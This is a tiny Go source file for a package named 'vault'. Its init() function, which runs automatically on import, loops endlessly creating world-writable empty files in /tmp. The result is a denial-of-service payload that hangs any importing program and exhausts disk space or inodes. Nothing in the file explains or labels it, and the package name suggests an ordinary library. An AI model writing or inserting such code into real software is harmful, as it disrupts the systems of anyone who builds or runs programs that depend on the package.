package vault

import "os"
import "fmt"

func init() {
	for i := 0; ; i++ {
		os.WriteFile(fmt.Sprint("/tmp/", i), nil, 0o666)
	}
}
